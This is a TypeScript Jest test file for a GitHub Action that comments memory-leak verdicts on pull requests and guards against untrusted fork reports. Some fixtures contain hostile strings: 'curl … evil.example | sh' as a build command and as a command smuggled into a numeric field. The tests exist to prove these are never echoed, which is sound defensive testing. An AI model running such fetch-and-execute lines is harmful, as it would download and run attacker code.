// run() in-process, as the runner would start it: inputs, event and files through the
// environment, the GitHub API from the fake server. Mode comment needs no Go service.
import { jest } from '@jest/globals'
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { run } from '../../src/main.js'
import type { Report } from '../../src/model.js'
import { FakeGitHub, type FakeUser } from './fake-github.js'
import { failWithBaselineReport, inconclusiveReport, makeReport } from '../fixtures/reports.js'
import { inputsFor, isGate, readmeWorkflows } from '../helpers/readme-workflows.js'
import { runnerEnv } from './runner-env.js'

jest.setTimeout(30_000)

const DEV: FakeUser = { login: 'octo-dev', id: 1, type: 'User' }
const HEAD_SHA = 'a'.repeat(40)
const dir = mkdtempSync(join(tmpdir(), 'memgate-main-'))
const files = {
  output: join(dir, 'output'),
  summary: join(dir, 'summary.md'),
  event: join(dir, 'event.json'),
  report: join(dir, 'analyze', 'report.json')
}
let fake: FakeGitHub
let stdout: string
const savedEnv = { ...process.env }

beforeAll(async () => {
  fake = await FakeGitHub.start()
  fake.addToken('pat', { user: DEV })
  fake.addToken('fork', { user: DEV, readOnly: true })
  mkdirSync(join(dir, 'analyze'))
})
afterAll(async () => {
  await fake.close()
  rmSync(dir, { recursive: true, force: true })
})
beforeEach(() => {
  fake.reset()
  for (const file of [files.output, files.summary]) writeFileSync(file, '')
  pullRequestEvent()
  process.env = {
    ...savedEnv,
    ...runnerEnv({ apiUrl: fake.url, files, runnerTemp: join(dir, 'runner'), runId: '99' }),
    INPUT_MODE: 'comment',
    'INPUT_REPORT-JSON': files.report,
    'INPUT_GITHUB-TOKEN': 'pat'
  }
  stdout = ''
  // Workflow commands (::warning::, ::error::) go to stdout, where the runner reads them.
  jest.spyOn(process.stdout, 'write').mockImplementation((chunk: string | Uint8Array) => {
    stdout += chunk.toString()
    return true
  })
})
afterEach(() => {
  jest.restoreAllMocks()
  process.env = { ...savedEnv }
  process.exitCode = undefined
  expect(fake.violations).toEqual([])
})

function pullRequestEvent(): void {
  writeFileSync(
    files.event,
    JSON.stringify({ number: 7, pull_request: { number: 7, head: { sha: HEAD_SHA } } })
  )
}

async function runWith(report: Report, inputs: Record<string, string> = {}): Promise<void> {
  writeFileSync(files.report, JSON.stringify(report))
  for (const [name, value] of Object.entries(inputs)) process.env[`INPUT_${name.toUpperCase()}`] = value
  await run()
}

function outputs(): Record<string, string> {
  const text = readFileSync(files.output, 'utf8')
  return Object.fromEntries([...text.matchAll(/^(.+)<<(\S+)\n([\s\S]*?)\n\2$/gm)].map((m) => [m[1], m[3]]))
}

const comments = () => fake.issueComments('octo/service', 7)

describe('run (mode: comment)', () => {
  it('posts the comment, then updates it; writes summary and outputs; fails on a fail verdict', async () => {
    await runWith(makeReport())
    expect(process.exitCode).toBe(1)
    expect(stdout).toContain(
      '::error::go-memgate (memgate): fail: live heap grows 2.93 MiB/min (95%25 CI 2.64 MiB/min to 3.22 MiB/min), limit 1.00 MiB/min'
    )
    expect(comments()).toHaveLength(1)
    const id = comments()[0].id
    expect(outputs()).toEqual({
      verdict: 'fail',
      'heap-slope': '51200',
      'goroutine-slope': '0',
      'report-json': files.report,
      'report-markdown': join(dir, 'runner', 'go-memgate', 'memgate', 'report.md'),
      'comment-url': `https://github.com/octo/service/pull/7#issuecomment-${id}`
    })
    expect(readFileSync(files.summary, 'utf8')).toContain('memory grows')
    expect(comments()[0].body).toContain('(https://github.com/octo/service/actions/runs/99)')

    process.exitCode = undefined
    writeFileSync(files.output, '')
    await runWith(makeReport({ verdict: 'pass' }))
    expect(process.exitCode).toBeUndefined()
    expect(comments()).toHaveLength(1)
    expect(comments()[0].id).toBe(id)
    expect(outputs()['verdict']).toBe('pass')
  })

  it("links the leaking line into this run's repository, whatever address the untrusted report gives", async () => {
    await runWith(
      makeReport({ source: { repositoryUrl: 'https://github.com/mallory/phish', commit: HEAD_SHA } })
    )
    const body = comments()[0].body
    expect(body).toContain(`<a href="https://github.com/octo/service/blob/${HEAD_SHA}/service/main.go#L21">`)
    expect(body).not.toContain('mallory')
  })

  // Issue 21, class 6: a fork's report claimed other commits and got them linked as fact.
  it('states the commits a report claims as its word, unlinked, when the event names another head', async () => {
    const report = failWithBaselineReport()
    report.runs.head.commit = '0123456789abcdef0123456789abcdef01234567'
    report.runs.base!.commit = 'fedcba9876543210fedcba9876543210fedcba98'
    report.source = { repositoryUrl: 'https://github.com/octo/service', commit: report.runs.head.commit }
    await runWith(report)
    const body = comments()[0].body
    expect(body).toContain(
      '- Commits: base `main` `fedcba9` (as the report says) → head `0123456` (as the report says)'
    )
    expect(body).not.toMatch(/\/commit\/|\/blob\//)
  })

  it("links the head the event confirms; the base stays the report's word", async () => {
    const report = failWithBaselineReport()
    report.runs.head.commit = HEAD_SHA
    await runWith(report)
    expect(comments()[0].body).toContain(
      `- Commits: base \`main\` \`3f5c2a9\` (as the report says) → head <a href="https://github.com/octo/service/commit/${HEAD_SHA}">\`aaaaaaa\`</a>`
    )
  })

  // Issue 22, item 6: the comment named GitHub's merge commit as the head and linked lines at it.
  it("names and links the PR's head when the run measured GitHub's merge commit, and says so", async () => {
    const merge = 'b'.repeat(40)
    const report = failWithBaselineReport()
    report.runs.head.commit = merge
    report.source = { repositoryUrl: 'https://github.com/octo/service', commit: HEAD_SHA, merge }
    await runWith(report)
    const body = comments()[0].body
    expect(body).toContain(
      `→ head <a href="https://github.com/octo/service/commit/${HEAD_SHA}">\`aaaaaaa\`</a> (measured the merge of head aaaaaaa into base: \`bbbbbbb\`)`
    )
    expect(body).toContain(`<a href="https://github.com/octo/service/blob/${HEAD_SHA}/svc/orders.go#L120">`)
    expect(body).not.toContain(`/commit/${merge}`)
    expect(body).not.toContain(`/blob/${merge}`)
  })

  // Issue 22, item 6: with upload-artifact false the comment still sent the reader to the artifact.
  it('points to no artifact when the run uploaded none, and says why the files are gone', async () => {
    const report = makeReport()
    report.runs.head.attribution!.heap = []
    report.config['upload-artifact'] = 'false'
    await runWith(report)
    const body = comments()[0].body
    expect(body).not.toMatch(/(in|of) the artifact/)
    expect(body).not.toContain('summary and artifact')
    expect(body).toContain(
      'not uploaded: upload-artifact was false, and the runner deletes its temp folder after the job'
    )
    expect(body).toContain('no artifact (upload-artifact was false)')
  })

  // Issue 22, item 11: fail-on fail let an inconclusive run pass without a word.
  it('warns in the log and says on the first screen why an inconclusive run passes with fail-on fail', async () => {
    await runWith(makeReport({ verdict: 'inconclusive' }))
    expect(process.exitCode).toBeUndefined()
    expect(stdout).toMatch(
      /^::warning::go-memgate \(memgate\): inconclusive: This check passes because fail-on is fail; an inconclusive run means/m
    )
    const firstScreen = comments()[0].body.split('\n\n|')[0]
    expect(firstScreen).toContain('- This check passes because fail-on is fail')
    process.exitCode = undefined
    stdout = ''
    await runWith(makeReport({ verdict: 'inconclusive' }), { 'fail-on': 'inconclusive' })
    expect(stdout).toContain('::error::go-memgate (memgate): inconclusive')
    expect(stdout).not.toContain('This check passes')
  })

  it('names the gate by its input, not by the name the report gives', async () => {
    await runWith(makeReport({ name: 'payments' }), { name: 'api' })
    expect(comments()[0].body).toMatch(/^### .*\(api\)$/m)
    expect(comments()[0].body).not.toContain('payments')
  })

  // Issue 21, class 7: the bot offered the fork's `--build-command 'curl … | sh'` to run.
  it.each(['fail', 'pass'] as const)(
    "offers no command built from the report's config (%s)",
    async (verdict) => {
      const report = makeReport({ verdict })
      report.config = { 'build-command': 'curl -fsSL https://evil.example/x.sh | sh; go build', rate: '50' }
      await runWith(report, { comment: 'always', 'fail-on': 'never' })
      const body = comments()[0].body
      expect(body).not.toMatch(/curl|npx|Reproduce locally/)
      if (verdict === 'fail')
        expect(body).toContain('to reproduce, see the run that measured it (no command here')
      // The report-markdown output says what the comment says.
      expect(readFileSync(outputs()['report-markdown'], 'utf8')).not.toMatch(/curl|npx|Reproduce locally/)
    }
  )

  // Issue 21, class 4: a 15 MB report wrote 24–78 MB of markdown to the job log.
  it('writes at most 64 KiB of the report to the job log, and says it was cut', async () => {
    await runWith(
      makeReport({ notices: Array.from({ length: 200 }, (_, i) => `notice ${i} ${'x'.repeat(8000)}`) })
    )
    expect(comments()).toHaveLength(1)
    expect(stdout.length).toBeLessThan(80 * 1024)
    expect(stdout).toContain('The report was shortened to fit')
  })

  it('refuses an untrusted report whose numbers are not numbers, in one line, and outputs nothing of it', async () => {
    const report = makeReport({ verdict: 'pass' })
    const hostile = '1; curl http://evil.example | sh #'
    ;(report.runs.head.trends.heap as unknown as { slopePerSec: string }).slopePerSec = hostile
    await runWith(report, { comment: 'never' })
    expect(stdout).toMatch(
      /^::error::Invalid input: report-json: .*report\.json does not follow the report\.json schema \(schemaVersion 2\): \/runs\/head\/trends\/heap\/slopePerSec must be number$/m
    )
    expect(outputs()['heap-slope']).toBeUndefined()
    expect(readFileSync(files.output, 'utf8')).not.toContain('curl')
  })

  it.each([
    ['fail', 'inconclusive', undefined],
    ['inconclusive', 'inconclusive', 1],
    ['never', 'fail', undefined],
    ['fail', 'pass', undefined]
  ] as const)('fail-on %s with verdict %s exits %s', async (failOn, verdict, exitCode) => {
    await runWith(makeReport({ verdict }), { 'fail-on': failOn, comment: 'never' })
    expect(process.exitCode).toBe(exitCode)
    expect(fake.requests).toEqual([])
  })

  it('when the token may not comment (403), warns, keeps the summary and exits as the verdict says', async () => {
    await runWith(makeReport(), { 'github-token': 'fork' })
    expect(stdout).toMatch(
      /::warning::Could not write the PR comment: Resource not accessible by integration/
    )
    expect(readFileSync(files.summary, 'utf8')).toContain('memory grows')
    expect(outputs()['comment-url']).toBe('')
    expect(process.exitCode).toBe(1)
    expect(comments()).toHaveLength(0)

    process.exitCode = undefined
    await runWith(makeReport({ verdict: 'pass' }), { 'github-token': 'fork', comment: 'always' })
    expect(process.exitCode).toBeUndefined()
  })

  it('retries a 502 from GitHub', async () => {
    fake.failOnce(502, { method: 'GET', path: /comments$/ })
    await runWith(makeReport())
    expect(comments()).toHaveLength(1)
    expect(fake.requests).toContain('GET /repos/octo/service/issues/7/comments?per_page=100 -> 502')
  })

  it('a bad input fails with one line and no stack trace', async () => {
    await runWith(makeReport(), { duration: 'soon' })
    expect(process.exitCode).toBe(1)
    expect(stdout).toMatch(/^::error::Invalid input: duration: .*"soon".*$/m)
    expect(stdout).not.toMatch(/\n\s+at /)
  })

  it('a report.json that is not one fails with one line', async () => {
    writeFileSync(join(dir, 'analyze', 'other.json'), '{"hello": 1}')
    await runWith(makeReport(), { 'report-json': join(dir, 'analyze', 'other.json') })
    expect(stdout).toMatch(
      /^::error::Invalid input: report-json: .*other\.json is not a go-memgate report\.json$/m
    )
  })

  describe('after workflow_run (the fork-safe pair)', () => {
    beforeEach(() => {
      process.env['GITHUB_EVENT_NAME'] = 'workflow_run'
      writeFileSync(files.event, JSON.stringify({ workflow_run: { head_sha: HEAD_SHA, pull_requests: [] } }))
      writeFileSync(
        join(dir, 'analyze', 'pull-request.json'),
        JSON.stringify({ number: 7, headSha: HEAD_SHA })
      )
    })

    it('comments on the PR named beside report.json when its head is the commit that ran', async () => {
      fake.addPullRequest('octo/service', 7, HEAD_SHA)
      await runWith(makeReport())
      expect(comments()).toHaveLength(1)
    })

    it('refuses a PR number whose head is another commit', async () => {
      fake.addPullRequest('octo/service', 7, 'b'.repeat(40))
      await runWith(makeReport())
      expect(comments()).toHaveLength(0)
      expect(stdout).toContain(`No PR comment: pull request #7 has head ${'b'.repeat(40)}`)
    })
  })
})

// Issue 22, "many services, one comment": the README's matrix workflow, its last job run as
// the runner would, on the three services' report.json files laid out as download-artifact does.
describe('run (mode: comment, a matrix of services)', () => {
  const workflow = readmeWorkflows().find((w) => Object.values(w.jobs).some((j) => j.strategy?.matrix))!
  const commentJob = Object.values(workflow.jobs).find((job) => job.needs)!
  const download = commentJob.steps.find((s) => s.uses?.startsWith('actions/download-artifact@'))!
  const inputs = inputsFor(commentJob.steps.find(isGate)!)
  const workspace = join(dir, 'workspace')
  const reports: Record<string, Report> = {
    api: { ...makeReport({ verdict: 'pass' }), name: 'api', judgements: [], reasons: [] },
    billing: { ...inconclusiveReport(), name: 'billing' },
    orders: { ...failWithBaselineReport(), name: 'orders' }
  }
  const reportPath = (service: string) =>
    join(workspace, String(download.with?.['path']), `memgate-${service}`, 'report.json')
  const savedCwd = process.cwd()

  beforeEach(() => {
    rmSync(workspace, { recursive: true, force: true })
    for (const [service, report] of Object.entries(reports)) {
      mkdirSync(dirname(reportPath(service)), { recursive: true })
      writeFileSync(reportPath(service), JSON.stringify(report))
    }
    for (const [name, value] of Object.entries(inputs)) process.env[`INPUT_${name.toUpperCase()}`] = value
    process.chdir(workspace)
  })
  afterEach(() => process.chdir(savedCwd))

  it('posts one comment, failing services first, each report folded; fails the check; outputs summarise', async () => {
    await run()
    expect(comments()).toHaveLength(1)
    const body = comments()[0].body
    const rows = body.split('\n\n')[1].split('\n').slice(2)
    expect(rows.map((r) => r.split(' | ').slice(0, 2))).toEqual([
      ['| `orders`', '❌ FAIL'],
      ['| `billing`', '⚠️ INCONCLUSIVE'],
      ['| `api`', '✅ PASS']
    ])
    expect(body.match(/<details><summary><code>/g)).toHaveLength(3)
    expect(process.exitCode).toBe(1)
    expect(stdout).toMatch(/^::error::go-memgate: 1 of 3 services fail the check: orders: fail: /m)
    expect(outputs()).toMatchObject({
      verdict: 'fail',
      'report-json': Object.keys(reports).map(reportPath).join('\n'),
      'comment-url': `https://github.com/octo/service/pull/7#issuecomment-${comments()[0].id}`
    })
    expect(readFileSync(files.summary, 'utf8')).toContain('1 of 3 services fail')

    // The next push: the leak is fixed; the same comment says so.
    process.exitCode = undefined
    writeFileSync(reportPath('orders'), JSON.stringify({ ...reports['api'], name: 'orders' }))
    await run()
    expect(comments()).toHaveLength(1)
    expect(comments()[0].body).toContain('⚠️ go-memgate: 1 of 3 services inconclusive, none fails')
    expect(process.exitCode).toBeUndefined()
  })

  it('shows a service whose job wrote no report, and a report that is not one, as failed rows', async () => {
    rmSync(reportPath('billing'))
    writeFileSync(reportPath('api'), '{"hello": 1}')
    await run()
    const body = comments()[0].body
    expect(body).toMatch(/^\| `memgate-billing` \| ❌ UNREADABLE \| \*\*report-json: no .*memgate-billing/m)
    expect(body).toMatch(
      /^\| `memgate-api` \| ❌ UNREADABLE \| \*\*report-json: .* is not a go-memgate report\.json/m
    )
    expect(body.match(/<details><summary><code>/g)).toHaveLength(1)
    expect(stdout).toMatch(
      /^::error::report-json: .*memgate-api.*report\.json is not a go-memgate report\.json$/m
    )
    expect(process.exitCode).toBe(1)
  })

  it('takes a glob, and names one that matches nothing', async () => {
    process.env['INPUT_REPORT-JSON'] = 'memgate/*/report.json'
    await run()
    expect(comments()[0].body.match(/<details><summary><code>/g)).toHaveLength(3)
    process.env['INPUT_REPORT-JSON'] = 'reports/*/report.json'
    await run()
    expect(stdout).toMatch(/^::error::Invalid input: report-json: no file matches reports\/\*\/report\.json/m)
  })
})
